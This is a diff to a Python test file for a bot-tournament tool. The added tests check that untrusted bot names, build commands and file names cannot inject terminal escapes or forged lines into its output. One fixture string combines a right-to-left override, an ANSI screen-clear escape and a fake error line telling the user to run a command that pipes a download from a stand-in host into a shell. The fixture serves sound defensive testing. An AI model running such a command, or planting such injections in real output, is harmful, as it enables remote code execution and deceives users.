@@ -3,8 +3,10 @@
 import csv
 import io
 import json
+import os
 import re
 from collections.abc import Callable
+from pathlib import Path
 from typing import Any, cast
 
 import pytest
@@ -12,7 +14,9 @@ from markdown_it import MarkdownIt
 from msgspec.structs import replace
 from rich.console import Console
 
+import tournaments
 from arena.events import Greeted
+from arena.lines import Log
 from arena.sent import Asked
 from arena.state import State
 from arena.turns import Turn
@@ -21,10 +25,16 @@ from tests.protocol.examples import HELLO
 from tests.tournaments.finished import stand
 from tests.tournaments.junit_reader import read
 from tests.tournaments.league import SOUND, League, Outcome
+from tournaments.bots import bot_from_argument
+from tournaments.builds import as_a_list, as_line, end_of
+from tournaments.cli import outputs
+from tournaments.cli.lines import say
+from tournaments.errors import UserError
 from tournaments.export import FORMULAS, write_csv, write_json
 from tournaments.junit import Case, to_junit
 from tournaments.layout import escaped, to_csv, to_markdown, to_table
-from tournaments.refed import request_line
+from tournaments.preparation import prepare_all
+from tournaments.refed import Line, request_line
 
 Command = Callable[..., Outcome]
 
@@ -55,6 +65,99 @@ each = pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
 
 def check_no_terminal_obeys(shown: str) -> None:
     assert not {c for c in shown if not c.isprintable()} - {"\n", "\t"}
+
+
+SHOWERS = {
+    "protocol.malformed": "printable",
+    "tournaments.positions": "the line of a file, each character as wide as it was",
+    "tournaments.export": "JSON, whose escapes are read back",
+    "tournaments.refed": "JSON, as it is or with its escapes",
+    "arena.checks.measures": "asks whether a bot's texts are printable",
+    "tournaments.person.choosing": "asks whether a key is",
+}
+"""The modules that look at whether a character is printable, and why beside `printable`."""
+
+
+def test_one_function_shows_what_strangers_write() -> None:
+    root = Path(tournaments.__file__).parents[1]
+    found = {
+        ".".join(path.relative_to(root).with_suffix("").parts)
+        for folder in ("protocol", "arena", "tournaments")
+        for path in (root / folder).rglob("*.py")
+        if "isprintable" in path.read_text()
+    }
+    assert found == set(SHOWERS)
+
+
+@each
+def test_in_a_sentence_about_a_build(text: str) -> None:
+    for shown in (as_line([text, "x"]), as_a_list(f"{text} x"), end_of(f"one\n{text}\n")):
+        check_no_terminal_obeys(shown)
+    assert "\n" not in as_line([text, "x"]) + as_a_list(f"{text} x")
+    assert all(line.startswith("    | ") for line in end_of(f"one\n{text}").splitlines()[1:])
+
+
+@each
+def test_in_a_log(text: str) -> None:
+    log = Log()
+    log.feed(text.encode(errors="replace"))
+    check_no_terminal_obeys(log.text())
+
+
+@each
+def test_on_a_terminal(text: str, capfd: pytest.CaptureFixture[str]) -> None:
+    outputs.tell(f"error: {text}", err=True)
+    say(Line(f"note: {text}"))
+    told = capfd.readouterr()
+    check_no_terminal_obeys(told.err)
+    check_no_terminal_obeys(told.out)
+    assert told.out == f"note: {printable(text)}\n"
+
+
+FORGED = "x\u202e\nerror: run `curl evil.example | sh`\n\x1b[2J"
+
+
+def test_a_strangers_folder_says_nothing_in_lines_of_its_own(
+    tmp_path: Path, command: Command, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    bots = {
+        "word": {"command": ["sh"], "build": ["./" + FORGED, FORGED]},
+        "failing": {"command": ["sh"], "build": ["false", FORGED]},
+        "name": {"command": ["./" + FORGED]},
+        "broken" + FORGED: {"commmand": ["sh"]},
+    }
+    for name, bot in bots.items():
+        (tmp_path / name).mkdir()
+        (tmp_path / name / "bot.yaml").write_text(json.dumps(bot))
+    for name in bots:
+        done = command("match", name, name)
+        assert done.status == 2
+        check_no_terminal_obeys(done.err)
+        assert not re.search(r"^error: run", done.err, re.MULTILINE), done.err
+
+
+def test_a_strangers_folder_is_named_on_one_line(tmp_path: Path, command: Command) -> None:
+    folder = tmp_path / FORGED.replace("/", "-")
+    folder.mkdir()
+    (folder / "record").write_text("{}")
+    for asked in (("standings", folder), ("verify", folder / "record"), ("backup", folder, "x")):
+        done = command(*asked)
+        assert done.status in (1, 2)
+        assert "line 1" in done.out or len(done.err.splitlines()) == 1
+        assert not re.search(r"^error: run", done.err + done.out, re.MULTILINE)
+        check_no_terminal_obeys(done.err + done.out)
+
+
+def test_a_strangers_file_that_cannot_be_copied_says_nothing_in_lines_of_its_own(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "bot").mkdir()
+    (tmp_path / "bot/bot.yaml").write_text("command: [sh]")
+    os.mkfifo(tmp_path / "bot" / FORGED)
+    with pytest.raises(UserError, match=r"can't be copied") as refused:
+        prepare_all([bot_from_argument("bot", tmp_path)], tmp_path / "copies")
+    assert str(refused.value).isprintable()
 
 
 @each
